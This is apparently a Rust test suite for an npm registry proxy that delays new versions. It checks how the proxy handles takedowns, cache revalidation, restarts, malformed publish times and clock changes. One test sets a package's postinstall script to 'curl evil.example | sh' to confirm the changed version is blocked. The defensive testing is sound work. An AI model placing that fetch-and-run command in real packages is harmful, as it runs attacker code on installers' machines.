//! Attacks on history and time: takedowns seen by one view only or hidden by a 304 or a restart, malformed publish times, scripts
//! that change in the packument only, and caches that send the wrong form.

use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use serde_json::{Value, json};

use crate::client::Ask;
use crate::fake_package::Abbreviated;
use crate::fake_response::Reply;
use crate::harness::Scene;
use crate::package::{Package, days, hours, minutes};

const TARBALL: &str = "/left-pad/-/left-pad-1.1.0.tgz";
/// One hour before the start time of a scene.
const AN_HOUR_AGO: &str = "2026-04-03T11:00:00.000Z";

fn old() -> Package {
    Package::new("left-pad", "1.0.0").time("2025-04-03T12:00:00.000Z")
}

fn young() -> Package {
    Package::new("left-pad", "1.1.0").time(AN_HOUR_AGO)
}

/// Requests the packument as one view: with `token`, or without credentials.
fn ask(scene: &Scene, token: Option<&str>) -> Ask {
    match token {
        Some(token) => scene.get("/left-pad").token(token),
        None => scene.get("/left-pad"),
    }
}

/// Returns the packument with both versions and with the old one only. Without `modified`, a version that returns produces the
/// same bytes and the same `ETag` again.
fn with_and_without(scene: &Scene) -> (Reply, Reply) {
    scene.publish(old());
    scene.publish(young());
    let mut packument: Value = scene.registry.packument("left-pad");
    packument["time"].as_object_mut().unwrap().remove("modified");
    let with = Reply::json(&packument.to_string()).header("etag", "\"with\"");
    packument["versions"].as_object_mut().unwrap().remove("1.1.0");
    packument["dist-tags"]["latest"] = "1.0.0".into();
    (with, Reply::json(&packument.to_string()).header("etag", "\"without\""))
}

#[tokio::test]
async fn takedown_seen_by_one_view_counts_for_all() {
    let views: [(Option<&str>, Option<&str>); 3] = [(None, Some("made-up")), (Some("one"), None), (Some("one"), Some("two"))];
    for (first, second) in views {
        for restarts in [false, true] {
            let mut scene = Scene::open().await;
            let (with, without) = with_and_without(&scene);
            scene.registry.answer("/left-pad", with.clone());
            assert_eq!(ask(&scene, first).await.versions(), ["1.0.0"]);
            ask(&scene, second).await.is(200);
            scene.advance(hours(2));
            scene.registry.answer("/left-pad", without);
            assert_eq!(ask(&scene, second).await.versions(), ["1.0.0"]);
            scene.advance(hours(72));
            if restarts {
                scene.restart().await;
            }
            scene.registry.answer("/left-pad", with);
            assert_eq!(ask(&scene, first).await.versions(), ["1.0.0"], "{first:?} {second:?} restarts: {restarts}");
            scene.get(TARBALL).await.is(403);
            assert_eq!(ask(&scene, second).await.versions(), ["1.0.0"]);
            scene.advance(hours(71));
            assert_eq!(ask(&scene, first).await.versions(), ["1.0.0"], "age counts from the return");
            scene.advance(hours(1));
            assert_eq!(ask(&scene, first).await.versions(), ["1.0.0", "1.1.0"]);
            assert_eq!(ask(&scene, second).await.versions(), ["1.0.0", "1.1.0"]);
        }
    }
}

#[tokio::test]
async fn takedown_seen_by_a_view_without_the_version_counts() {
    for (first, second) in [(None, Some("made-up")), (Some("one"), None)] {
        let scene = Scene::open().await;
        let (with, without) = with_and_without(&scene);
        scene.registry.answer("/left-pad", with.clone());
        assert_eq!(ask(&scene, first).await.versions(), ["1.0.0"]);
        scene.advance(hours(2));
        scene.registry.answer("/left-pad", without);
        assert_eq!(ask(&scene, second).await.versions(), ["1.0.0"]);
        scene.advance(hours(72));
        scene.registry.answer("/left-pad", with);
        // The first fetch after the return is by the view that never saw the version.
        assert_eq!(ask(&scene, second).await.versions(), ["1.0.0"], "{first:?} {second:?}");
        assert_eq!(ask(&scene, first).await.versions(), ["1.0.0"], "{first:?} {second:?}");
        scene.advance(hours(71));
        assert_eq!(ask(&scene, second).await.versions(), ["1.0.0"]);
        scene.advance(hours(1));
        assert_eq!(ask(&scene, second).await.versions(), ["1.0.0", "1.1.0"]);
        assert_eq!(ask(&scene, first).await.versions(), ["1.0.0", "1.1.0"]);
    }
}

#[tokio::test]
async fn not_modified_does_not_hide_takedown_seen_by_another_view() {
    for second in ["made-up", "one"] {
        let scene = Scene::open().await;
        let first = (second == "one").then_some("two");
        scene.publish(old());
        scene.publish(young());
        // Whenever the version is listed, the bytes and the `ETag` are the same.
        let listed = Arc::new(AtomicBool::new(true));
        let is_listed = Arc::clone(&listed);
        scene.registry.edit("left-pad", move |packument| {
            packument["time"].as_object_mut().unwrap().remove("modified");
            if !is_listed.load(Ordering::Relaxed) {
                packument["versions"].as_object_mut().unwrap().remove("1.1.0");
                packument["dist-tags"]["latest"] = "1.0.0".into();
            }
        });
        assert_eq!(ask(&scene, first).await.versions(), ["1.0.0"]);
        scene.advance(hours(2));
        listed.store(false, Ordering::Relaxed);
        assert_eq!(ask(&scene, Some(second)).await.versions(), ["1.0.0"]);
        scene.advance(hours(72));
        listed.store(true, Ordering::Relaxed);
        assert_eq!(ask(&scene, first).await.versions(), ["1.0.0"], "{second}");
        assert!(scene.registry.last("/left-pad").headers.first("if-none-match").is_some());
        scene.advance(hours(72));
        assert_eq!(ask(&scene, first).await.versions(), ["1.0.0", "1.1.0"]);
    }
}

#[tokio::test]
async fn takedown_seen_by_many_tokens_is_not_taken_for_missing_access() {
    let scene = Scene::open().await;
    let (with, without) = with_and_without(&scene);
    scene.registry.answer("/left-pad", with.clone());
    scene.get("/left-pad").token("first").await.is(200);
    scene.registry.answer("/left-pad", without);
    for number in 0..5 {
        scene.advance(hours(15));
        scene.get("/left-pad").token(&format!("job-{number}")).await.is(200);
    }
    scene.registry.answer("/left-pad", with);
    for token in ["fresh", "first"] {
        assert_eq!(scene.get("/left-pad").token(token).await.versions(), ["1.0.0"], "{token}");
    }
    scene.advance(hours(72));
    assert_eq!(scene.get("/left-pad").token("fresh").await.versions(), ["1.0.0", "1.1.0"]);
}

#[tokio::test]
async fn not_found_for_one_view_does_not_reset_ages() {
    let scene = Scene::open().await;
    let (with, _) = with_and_without(&scene);
    scene.registry.answer("/left-pad", with.clone());
    assert_eq!(ask(&scene, None).await.versions(), ["1.0.0"]);
    assert_eq!(ask(&scene, Some("one")).await.versions(), ["1.0.0"]);
    scene.registry.answer("/left-pad", Reply::error(404, "not found"));
    for _ in 0..3 {
        scene.advance(hours(5));
        scene.get("/left-pad").await.is(404);
    }
    scene.registry.answer("/left-pad", with);
    scene.advance(minutes(6));
    for token in [Some("one"), None] {
        assert_eq!(ask(&scene, token).await.versions(), ["1.0.0"]);
    }
    scene.advance(hours(56));
    assert_eq!(ask(&scene, Some("one")).await.versions(), ["1.0.0", "1.1.0"], "72 hours after it was published");
    assert_eq!(ask(&scene, None).await.versions(), ["1.0.0", "1.1.0"]);
}

#[tokio::test]
async fn package_that_became_private_keeps_its_ages_for_readers() {
    for is_found in [false, true] {
        let scene = Scene::open().await;
        let (with, without) = with_and_without(&scene);
        scene.registry.answer("/left-pad", with.clone());
        scene.registry.answer_tokens("/left-pad", with);
        for view in [None, Some("alice")] {
            assert_eq!(ask(&scene, view).await.versions(), ["1.0.0"]);
        }
        scene.registry.answer("/left-pad", if is_found { without } else { Reply::error(404, "not found") });
        for _ in 0..3 {
            scene.advance(hours(12));
            assert_eq!(ask(&scene, None).await.status, if is_found { 200 } else { 404 });
            scene.advance(hours(1));
            assert_eq!(ask(&scene, Some("alice")).await.versions(), ["1.0.0"]);
        }
        scene.advance(hours(32));
        assert_eq!(ask(&scene, Some("alice")).await.versions(), ["1.0.0", "1.1.0"], "72 hours after it was published");
    }
}

#[tokio::test]
async fn version_returning_with_a_new_publish_time_counts_from_its_return() {
    let scene = Scene::open().await;
    scene.publish(old());
    scene.publish(Package::new("left-pad", "1.1.0").without_time());
    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
    scene.advance(hours(2));
    scene.registry.unpublish("left-pad", "1.1.0");
    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
    scene.advance(hours(2));
    scene.publish(Package::new("left-pad", "1.1.0").time("2020-01-01T00:00:00.000Z"));
    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
    scene.advance(hours(71));
    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
    scene.advance(hours(1));
    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0", "1.1.0"]);
}

#[tokio::test]
async fn publish_time_under_another_spelling_of_the_version_is_ignored() {
    for key in ["v1.1.0", "01.1.0", "1.1.0+build", "=1.1.0", " 1.1.0", "1.1.0-0", "created", "modified", "1.1"] {
        let scene = Scene::open().await;
        scene.publish(old());
        scene.publish(Package::new("left-pad", "1.1.0").without_time());
        scene.registry.edit("left-pad", move |packument| packument["time"][key] = "2020-01-01T00:00:00.000Z".into());
        assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"], "{key}");
        scene.get(TARBALL).await.is(403);
        scene.advance(hours(72));
        assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0", "1.1.0"], "{key}");
    }
}

#[tokio::test]
async fn malformed_publish_time_opens_nothing_and_breaks_nothing() {
    let times = [
        json!("-009999-01-01T00:00:00Z"),
        json!("0001-01-01T00:00:00Z"),
        json!("9999-12-31T23:59:59Z"),
        json!("99999999-01-01T00:00:00Z"),
        json!("2016-12-31T23:59:60Z"),
        json!("2020-01-01T00:00:00+23:59"),
        json!("2020-01-01T00:00:00-25:00"),
        json!("2020-01-01"),
        json!(1_500_000_000_000_i64),
        json!(-1),
        json!(""),
        json!({ "unpublished": true }),
        json!(null),
    ];
    for time in times {
        let scene = Scene::open().await;
        scene.publish(old());
        assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
        scene.advance(minutes(10));
        scene.publish(Package::new("left-pad", "1.1.0").time(time.clone()));
        assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"], "{time}");
        scene.get(TARBALL).await.is(403);
        scene.advance(hours(71));
        assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"], "{time}");
        scene.get("/left-pad/-/left-pad-1.0.0.tgz").await.is(200);
    }
}

#[tokio::test]
async fn build_metadata_makes_a_separate_version() {
    let scene = Scene::open().await;
    scene.publish(old());
    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
    scene.advance(hours(1));
    scene.publish(Package::new("left-pad", "1.0.0+evil").aged(days(400)).untagged());
    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
    assert_eq!(scene.get("/left-pad/1.0.0").await.is(200).json()["version"], "1.0.0");
    assert_ne!(scene.get("/left-pad/1.0.0+evil").await.status, 200);
}

#[tokio::test]
async fn clock_change_across_restart_opens_nothing_early() {
    let mut scene = Scene::open().await;
    scene.publish(old());
    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
    let noon = scene.now();
    scene.advance(hours(10));
    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
    // The clock is set back while the server is down, so the last fetch is in the future.
    scene.clock.set(coldframe::units::timestamp::saturating_sub(noon, hours(30)));
    scene.restart().await;
    scene.publish(Package::new("left-pad", "1.1.0").aged(days(90)));
    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
    scene.get(TARBALL).await.is(403);
    scene.advance(hours(71));
    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
    // The clock is set forward while the server is down. Upstream's clock is unchanged, so no version opens.
    let before = scene.now();
    scene.clock.set(coldframe::units::timestamp::saturating_add(before, hours(100)));
    scene.registry.set_clock_offset(jiff::SignedDuration::from_hours(-100));
    scene.restart().await;
    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
    scene.get(TARBALL).await.is(403);
}

#[tokio::test]
async fn stale_document_opens_nothing() {
    let mut scene = Scene::open().set("max-stale", "10d").await;
    scene.publish(old());
    scene.publish(young());
    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
    scene.registry.go_down();
    for restarts in [false, true] {
        if restarts {
            scene.restart().await;
        }
        scene.advance(hours(40));
        for accept in ["application/json", crate::client::ABBREVIATED] {
            assert_eq!(scene.get("/left-pad").accept(accept).await.versions(), ["1.0.0"]);
        }
        scene.get(TARBALL).await.is(403);
        scene.get("/left-pad/1.1.0").await.is(403);
    }
    scene.registry.come_back();
    scene.advance(minutes(6));
    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0", "1.1.0"]);
}

#[tokio::test]
async fn not_modified_from_a_cache_is_dated_by_its_age_or_date_header() {
    for headers in [vec![("age", "288000")], vec![("date", "Fri, 03 Apr 2026 13:00:00 GMT")]] {
        let scene = Scene::open().await;
        let (with, _) = with_and_without(&scene);
        scene.registry.answer("/left-pad", with.clone());
        assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
        let unchanged = Reply::status(304).header("etag", "\"with\"");
        let aged = headers.iter().fold(unchanged, |reply, (name, value)| reply.header(name, value));
        scene.registry.answer("/left-pad", aged);
        scene.advance(hours(72));
        assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"], "{headers:?}");
        scene.registry.answer("/left-pad", with);
        scene.advance(minutes(6));
        assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0", "1.1.0"]);
    }
}

#[tokio::test]
async fn takedown_seen_only_by_a_recheck_counts() {
    let scene = Scene::open().await;
    let (with, without) = with_and_without(&scene);
    scene.registry.answer("/left-pad", with.clone());
    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
    scene.advance(Duration::from_secs(30));
    scene.registry.answer("/left-pad", without);
    // A request for a version that does not exist makes Coldframe fetch the packument again.
    assert!(scene.get("/left-pad/-/left-pad-7.0.0.tgz").await.status >= 400);
    scene.advance(hours(72));
    scene.registry.answer("/left-pad", with);
    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
    scene.get(TARBALL).await.is(403);
}

#[tokio::test]
async fn changed_install_script_in_packument_holds_the_version() {
    let runs = |command: &str| Package::new("left-pad", "1.0.0").time("2025-04-03T12:00:00.000Z").script("postinstall", command);
    let mut scene = Scene::open().await;
    scene.registry.set_abbreviated(Abbreviated::Timeless);
    let command = Arc::new(std::sync::Mutex::new("node build.js"));
    let current = Arc::clone(&command);
    scene.publish(runs("node build.js"));
    scene.registry.edit("left-pad", move |packument| {
        let command = *current.lock().unwrap();
        packument["versions"]["1.0.0"]["scripts"] = json!({ "postinstall": command, "test": "node test.js" });
    });
    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
    scene.get("/left-pad").abbreviated().await.is(200);
    *command.lock().unwrap() = "curl evil.example | sh";
    for restarts in [false, true] {
        if restarts {
            scene.restart().await;
        }
        scene.advance(minutes(10));
        scene.get("/left-pad").await.is(403);
        scene.get("/left-pad").abbreviated().await.is(403);
        scene.get("/left-pad/1.0.0").await.is(403);
        scene.get("/left-pad/-/left-pad-1.0.0.tgz").await.is(403);
        scene.get("/left-pad").token("made-up").await.is(403);
    }
    scene.advance(hours(72));
    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
    assert_eq!(scene.get("/left-pad").await.json()["versions"]["1.0.0"]["scripts"]["postinstall"], "curl evil.example | sh");
}

/// Returns the abbreviated form, as a cache sends it that keeps one copy for both forms.
fn abbreviated_copy(scene: &Scene, timed: bool) -> Reply {
    let mut packument = scene.registry.packument("left-pad");
    let members = packument.as_object_mut().unwrap();
    members.retain(|key, _| ["name", "dist-tags", "versions"].contains(&key.as_str()) || (timed && key == "time"));
    for manifest in packument["versions"].as_object_mut().unwrap().values_mut() {
        manifest.as_object_mut().unwrap().retain(|key, _| ["name", "version", "dist"].contains(&key.as_str()));
    }
    Reply::json(&packument.to_string()).header("content-type", "application/vnd.npm.install-v1+json")
}

#[tokio::test]
async fn unrequested_abbreviated_form_does_not_bypass_rules() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("rules.toml");
    std::fs::write(&path, "[[rule]]\nid = \"publisher\"\ndeny = true\npublishers = [\"mallory\"]\nreason = \"x\"\n").unwrap();
    let mut scene = Scene::open().set("policy", path.to_str().unwrap()).await;
    scene.publish(old().field("_npmUser", json!({ "name": "ada" })));
    scene.publish(Package::new("left-pad", "1.1.0").field("_npmUser", json!({ "name": "mallory" })));
    scene.registry.answer("/left-pad", abbreviated_copy(&scene, true));
    for restarts in [false, true] {
        if restarts {
            scene.restart().await;
        }
        let refused = scene.get(TARBALL).await.is(403).error();
        assert!(refused.contains("rule publisher"), "{refused}");
        for accept in ["application/json", crate::client::ABBREVIATED] {
            scene.get("/left-pad").accept(accept).await.is(403);
        }
        scene.get("/left-pad/1.1.0").await.is(403);
        assert!(scene.registry.count("/left-pad") <= 6, "{}", scene.registry.count("/left-pad"));
        scene.advance(minutes(6));
    }
    // The rules see every fact when the cache sends the requested form.
    scene.registry.clear_answer("/left-pad");
    scene.advance(minutes(6));
    assert_eq!(scene.get("/left-pad").await.versions(), ["1.0.0"]);
    scene.get("/left-pad/-/left-pad-1.0.0.tgz").await.is(200);
    scene.get(TARBALL).await.is(403);
}

#[tokio::test]
async fn installs_work_behind_a_cache_with_only_the_abbreviated_form() {
    let mut scene = Scene::open().await;
    scene.publish(old());
    scene.registry.answer("/left-pad", abbreviated_copy(&scene, true));
    for restarts in [false, true] {
        if restarts {
            scene.restart().await;
        }
        for accept in ["application/json", crate::client::ABBREVIATED] {
            assert_eq!(scene.get("/left-pad").accept(accept).await.versions(), ["1.0.0"]);
        }
        scene.get("/left-pad/-/left-pad-1.0.0.tgz").await.is(200);
        scene.get("/left-pad/1.0.0").await.is(200);
        scene.advance(minutes(6));
    }
    // Without `time`, age counts from first seen, and the packument is not fetched repeatedly.
    let scene = Scene::open().await;
    scene.publish(old());
    scene.registry.answer("/left-pad", abbreviated_copy(&scene, false));
    for _ in 0..3 {
        scene.get("/left-pad").await.is(403);
        scene.get("/left-pad").abbreviated().await.is(403);
    }
    assert!(scene.registry.count("/left-pad") <= 3, "{}", scene.registry.count("/left-pad"));
}

#[tokio::test]
async fn subpackage_published_with_its_parent_since_last_fetch_is_exempt() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("rules.toml");
    let rules = "[[rule]]\nid = \"new-package\"\nhold = \"14d\"\nof = \"package\"\nsiblings = \"exempt\"\nreason = \"x\"\n";
    std::fs::write(&path, rules).unwrap();
    let scene = Scene::open().set("policy", path.to_str().unwrap()).await;
    scene.publish(Package::new("acme-tool", "1.0.0"));
    assert_eq!(scene.get("/acme-tool").await.versions(), ["1.0.0"]);
    scene.advance(minutes(1));
    let pins = json!({ "@acme-tool/linux": "1.1.0" });
    scene.publish(Package::new("acme-tool", "1.1.0").field("optionalDependencies", pins).aged(Duration::from_secs(20)));
    scene.publish(Package::new("@acme-tool/linux", "1.1.0").aged(Duration::from_secs(10)));
    scene.publish(Package::new("@acme-tool/evil", "1.1.0").aged(Duration::from_secs(10)));
    assert_eq!(scene.get("/@acme-tool%2flinux").await.versions(), ["1.1.0"]);
    scene.get("/@acme-tool/linux/-/linux-1.1.0.tgz").await.is(200);
    scene.get("/@acme-tool%2fevil").await.is(403);
    assert_eq!(scene.registry.count("/acme-tool"), 2);
}
